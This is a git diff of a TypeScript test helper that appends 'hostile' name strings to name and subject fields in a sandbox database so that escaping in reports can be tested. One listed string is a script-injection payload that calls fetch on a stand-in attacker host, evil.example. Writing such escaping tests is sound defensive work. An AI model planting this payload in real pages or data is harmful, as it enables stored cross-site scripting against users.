@@ -1,3 +1,6 @@
+import type {Db} from '../../src/sandbox/service/behaviour.js';
+import type {Shell} from '../shell.js';
+
 /** Names that would do harm if somebody forgot to escape them. */
 export const hostileNames = [
   '</script><script>document.title = "broken into"; fetch("https://evil.example/")</script>',
@@ -12,8 +15,22 @@ export const hostileNames = [
   '*bold* _it_ `code` ~gone~',
 ];
 
-/** Replaces each name by one of them, so that every field gets every kind. */
-export function hostile(): (name: string) => string {
-  let next = 0;
-  return name => `${name} ${hostileNames[next++ % hostileNames.length]}`;
-}
+/** Gives every record that a report names a worse name. */
+export const worsenNames = ({sandbox}: Shell): Promise<void> =>
+  sandbox.account.store.transaction((db: Db) => {
+    const worse = Buffer.from(hostileNames.join(' ')).toString();
+    for (const [table, column] of fields) db.run(`UPDATE ${table} SET ${column} = ${column} || ?`, [worse]);
+  });
+
+/** Every name that a report shows. */
+const fields = [
+  ['contact_types', 'name'],
+  ['segments', 'segment_name'],
+  ['unsubscribe_groups', 'group_name'],
+  ['senders', 'from_name'],
+  ['senders', 'from_email'],
+  ['single_sends', 'single_send_name'],
+  ['single_sends', 'subject'],
+  ['automations', 'automation_name'],
+  ['automation_schedules', 'subject'],
+] as const;
